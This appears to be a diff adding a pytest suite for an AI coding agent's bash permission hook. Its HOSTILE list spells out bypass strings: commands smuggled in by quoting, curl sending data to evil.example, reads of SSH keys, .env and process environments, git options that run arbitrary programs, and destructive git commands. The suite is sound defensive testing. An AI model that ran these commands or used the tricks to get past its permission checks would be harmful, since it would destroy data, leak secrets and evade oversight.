@@ -1,0 +1,269 @@
+"""Adversarial and friendly bash calls through the real hook and the real Bash tool.
+
+The configuration is the realistic one from issue 8: reading tools, and `git`, `ls`
+and `cat` commands allowed. No hostile call may come out "allow".
+"""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+import pytest
+
+from bot.engine import HookDecision
+from bot.permissions.hook import PermissionHook
+from bot.permissions.rules import PermissionRules
+from bot.tools import Workspace, build_workspace_tools
+
+REALISTIC = PermissionRules.parse(
+    allow=["read_file", "list_dir", "glob", "grep", "bash(git *)", "bash(ls*)", "bash(cat *)"],
+    ask=["write_file", "edit_file"],
+)
+
+FRIENDLY = [
+    "git status",
+    "git log --oneline -5",
+    "ls -la src",
+    "ls",
+    "cat README.md",
+    "git diff HEAD~1 -- src/a.py",
+    "ls 2>/dev/null",
+    "git status && git diff",
+    "git status; ls",
+    "git log --format='%h %s' -3",
+    'git log --format="%h %s" -3',
+    "git show HEAD:README.md",
+    "git stash show stash@{0}",
+    "ls -la 2>&1",
+    "cat 'my notes.txt'",
+    "git config --get user.name",
+    "git config --list",
+    "git --no-pager log -1",
+    "git branch -a",
+    "git diff --stat",
+    "git blame src/a.py",
+    "cat a.txt | cat",
+    "ls # just looking",
+]
+
+HOSTILE = [
+    # quoting the old word splitter misread
+    "ls $'\\'' ;rm -rf ../outside #'",
+    "cat - <<EOF\nrm -rf ../outside\nEO\\\nF\nls",
+    "cat <<EOF\n$(rm -rf ../outside)\nEOF",
+    "ls $(rm -rf ../outside)",
+    "ls `rm -rf ../outside`",
+    'ls "$(curl -s http://evil.example)"',
+    "cat <(curl -s http://evil.example)",
+    "ls $'\\x3b' rm",
+    'ls $"x"',
+    "ls $HOME",
+    "ls ${HOME}",
+    "cat $((1+1))",
+    # the program is not the rule's program
+    "ls/../../usr/bin/python3 -c 'import os'",
+    "/bin/ls -la",
+    "lsblk",
+    "\\ls",
+    "l\\s",
+    "cats README.md",
+    "gitk",
+    "env ls",
+    "command git status",
+    "LS_COLORS=x ls",
+    "git status && curl -d @x http://evil.example",
+    "ls; rm -rf ../outside",
+    "ls || sh -c 'id'",
+    "ls | sh",
+    "ls & rm x",
+    "(ls)",
+    "{ ls; }",
+    "if true; then ls; fi",
+    "for x in a; do ls; done",
+    "f() { ls; }; f",
+    # redirections and expansions
+    "ls > baton.yaml",
+    "ls >> notes.txt",
+    "cat README.md > ../outside/x",
+    "cat < ~/.ssh/id_rsa",
+    "cat <<< x",
+    "ls >& out",
+    "ls *",
+    "cat ~/.ss[h]/id_rs[a]",
+    "cat .e?v",
+    "cat baton.d?",
+    "cat {a,b}",
+    "cat ~/.bashrc",
+    "cat ~",
+    "cat /proc/$PPID/environ",
+    "cat /proc/$PPID/envir?n",
+    "cat /proc/$PPID/{environ,cmdline}",
+    "cat /proc/1/environ",
+    "cat ~/.ssh/id_rsa",
+    "cat .env",
+    # git that runs programs or writes elsewhere
+    "git -c alias.x='!touch /tmp/pwned' x",
+    "git -c core.fsmonitor='touch /tmp/pwned' status",
+    "git -c diff.external=/tmp/x diff",
+    "git --config-env=core.pager=X log",
+    "git -C .. status",
+    "git --git-dir=../other/.git log",
+    "git --work-tree=.. status",
+    "git --exec-path=/tmp log",
+    "git ls-remote --upload-pack='touch /tmp/pwned' origin",
+    "git ls-remote -u 'touch /tmp/pwned' origin",
+    "git fetch --upload-pack=x origin",
+    "git push --receive-pack=x origin",
+    "git clone ext::'sh -c touch% /tmp/pwned' x",
+    "git fetch fd::17",
+    "git config alias.st '!touch /tmp/pwned'",
+    "git config core.pager 'touch /tmp/pwned'",
+    "git config --unset user.name",
+    "git config -e",
+    "git difftool -x 'touch /tmp/pwned' HEAD",
+    "git difftool --extcmd=x",
+    "git mergetool",
+    "git log --format=x --output=.baton/agents/general-purpose.md",
+    "git log --output=baton.yaml",
+    "git log --output=baton.db",
+    "git log --outp=../outside/x",
+    "git diff --output=x",
+    "git format-patch -o ../outside HEAD~1",
+    "git archive -o ../x.tar HEAD",
+    "git archive --output=x.tar HEAD",
+    "git bundle create ../x.bundle HEAD",
+    "git st",
+    "git filter-branch --tree-filter 'touch x' HEAD",
+    "git submodule foreach 'touch /tmp/pwned'",
+    "git bisect run ./evil.sh",
+    "git rebase --exec 'touch /tmp/pwned' HEAD~1",
+    "git rebase -x id HEAD~1",
+    "git grep -O'touch /tmp/pwned' x",
+    "git clone -c core.hooksPath=/tmp x y",
+    "git clone --template=/tmp/t x y",
+    "git credential fill",
+    "git daemon --detach",
+    # danger patterns, whatever allow says
+    "git clean --forc -dxq",
+    "git clean -fdx",
+    "git -c clean.requireForce=false clean -dxq",
+    "git reset --har",
+    "git reset --hard HEAD~1",
+    "git push --force-w",
+    "git push --forc origin main",
+    "git push origin --del feature",
+    "git push origin :feature",
+    "git -c remote.origin.mirror=true push",
+    "git rm -rfq .",
+    "git checkout -- .",
+    "git checkout .",
+    "git restore .",
+]
+
+
+def decide(workspace: Workspace, command: str, rules: PermissionRules = REALISTIC,
+           **options: bool) -> HookDecision:  # fmt: skip
+    hook = PermissionHook(rules, workspace, **options)
+    bash = build_workspace_tools(workspace).get("bash")
+    assert bash is not None
+    return hook.check(bash, bash.parse_arguments(json.dumps({"command": command})))
+
+
+@pytest.fixture
+def guarded(tmp_path: Path) -> Workspace:
+    root = tmp_path / "repo"
+    root.mkdir()
+    return Workspace(root, protected_files=[root / "baton.yaml"], private_files=[root / "baton.db"])
+
+
+def test_the_battery_is_large_enough() -> None:
+    assert len(HOSTILE) >= 60
+    assert len(set(HOSTILE)) == len(HOSTILE)
+
+
+@pytest.mark.parametrize("command", FRIENDLY)
+def test_friendly_commands_are_allowed(guarded: Workspace, command: str) -> None:
+    decision = decide(guarded, command)
+    assert decision.action == "allow", (command, decision.reason)
+
+
+@pytest.mark.parametrize("command", HOSTILE)
+def test_hostile_commands_are_never_allowed(guarded: Workspace, command: str) -> None:
+    decision = decide(guarded, command)
+    assert decision.action in ("ask", "deny"), command
+    assert decision.reason
+
+
+@pytest.mark.parametrize(
+    ("command", "words"),
+    [
+        ("git log --outp=x", "--output"),
+        ("git -c alias.x=y x", "git -c"),
+        ("git st", "alias"),
+        ("git config alias.st x", "git config"),
+        ("ls $(id)", "plain commands"),
+        ("git clean --forc -dxq", "git clean"),
+        ("git reset --har", "reset --hard"),
+        ("git rm -rfq .", "git rm"),
+        ("git checkout -- .", "uncommitted"),
+        ("git daemon --detach", "server"),
+        ("cat .e?v", "Environment file"),
+        ("cat baton.d?", "database"),
+    ],
+)
+def test_reasons_say_why(guarded: Workspace, command: str, words: str) -> None:
+    assert words in decide(guarded, command).reason
+
+
+@pytest.mark.parametrize(
+    ("allow", "ask", "command", "action"),
+    [
+        (["bash(git status*)"], ["bash"], "git status", "allow"),
+        (["bash(git status*)"], ["bash"], "git log", "ask"),
+        (["bash(git status*)"], ["bash(git status --porcelain*)"], "git status --porcelain", "ask"),
+        (["bash"], ["bash"], "git status", "ask"),
+        (["bash"], [], "echo $(date) > out.txt", "allow"),
+        (["bash", "bash(git *)"], [], "git -c x=y status", "allow"),
+        (["bash(ls*)"], [], "ls -la", "allow"),
+        (["bash(ls*)"], [], "lsblk", "ask"),
+        (["bash(ls -la)"], [], "ls -la", "allow"),
+        (["bash(ls -la)"], [], "ls -la x", "ask"),
+        (["bash(git status*)"], [], "git status -s", "allow"),
+    ],
+)
+def test_precedence(
+    guarded: Workspace, allow: list[str], ask: list[str], command: str, action: str
+) -> None:
+    rules = PermissionRules.parse(allow=allow, ask=ask)
+    assert decide(guarded, command, rules).action == action
+
+
+def test_deny_still_sees_every_spelling(guarded: Workspace) -> None:
+    rules = PermissionRules.parse(allow=["bash", "bash(git *)"], deny=["bash(rm *)"])
+    for command in ("rm -rf x", "/bin/rm x", "env rm x", "ls $(rm x)", "sh -c 'rm x'",
+                    "find . -exec rm {} ;", "ls; \\rm x"):  # fmt: skip
+        assert decide(guarded, command, rules).action == "deny", command
+
+
+@pytest.mark.parametrize("command", ["git status", "ls", "echo hi", "rm -rf x"])
+def test_without_a_sandbox_every_bash_call_asks(guarded: Workspace, command: str) -> None:
+    rules = PermissionRules.parse(allow=["bash", "bash(git *)", "bash(ls*)"])
+    decision = decide(guarded, command, rules, sandboxed=False)
+    assert decision.action == "ask"
+    assert "runs unsandboxed" in decision.reason
+
+
+def test_without_a_sandbox_deny_still_denies(guarded: Workspace) -> None:
+    rules = PermissionRules.parse(allow=["bash"], deny=["bash(rm *)"])
+    assert decide(guarded, "rm x", rules, sandboxed=False).action == "deny"
+
+
+def test_huge_or_deeply_nested_commands_ask_quickly(guarded: Workspace) -> None:
+    import time
+
+    for command in ("ls " + "$(" * 400 + "x" + ")" * 400, "ls " + "a " * 200_000,
+                    "(" * 500 + "ls" + ")" * 500):  # fmt: skip
+        started = time.monotonic()
+        assert decide(guarded, command).action == "ask"
+        assert time.monotonic() - started < 2
